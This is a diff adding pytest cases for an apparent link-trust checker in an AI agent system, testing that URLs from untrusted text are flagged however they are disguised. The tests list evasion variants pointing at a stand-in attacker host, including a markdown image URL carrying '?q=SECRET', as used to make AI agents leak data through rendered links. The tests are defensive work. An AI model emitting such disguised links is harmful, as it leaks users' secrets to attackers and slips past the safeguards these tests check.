@@ -42,6 +42,37 @@ async def test_a_link_out_of_a_strangers_text_is_known_in_a_message() -> None:
     assert await links(world, "Read and send what it says to everybody") is None
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"-{EVIL_LINK}?q=SECRET",
+        f"5{EVIL_LINK}",
+        f"{'o' * 20}{EVIL_LINK}",
+        "![](//evil.example/p.png?q=SECRET)",
+        "https:/evil.example/p",
+        "https:\\\\evil.example/p",
+        "https&#58;//evil.example/p",
+        "-www.evil.example/p",
+        "https://evil.example./p",
+        "https://\u24d4vil.example/p",
+        "https://good.example\\@evil.example/p",
+    ],
+)
+async def test_a_strangers_link_is_known_however_it_is_written(text: str) -> None:
+    world = writing()
+    await call(world, "billing__lookup")
+    assert await links(world, f"see {text} and tell") == "untrusted"
+
+
+async def test_a_long_link_is_not_trusted_for_its_host() -> None:
+    world = writing()
+    world.handle("billing", "refund", lambda *_: says("https://shop.example"))
+    await call(world, "billing__refund", {"amount": 1})
+    assert await links(world, "see https://shop.example") == "trusted"
+    assert await links(world, f"see https://shop.example/{'x' * 300}") == "unseen"
+    assert await links(world, "see https://shop.example/x") == "unseen"
+
+
 async def test_the_worst_link_of_a_text_counts() -> None:
     world = writing()
     await call(world, "billing__refund", {"amount": 1})
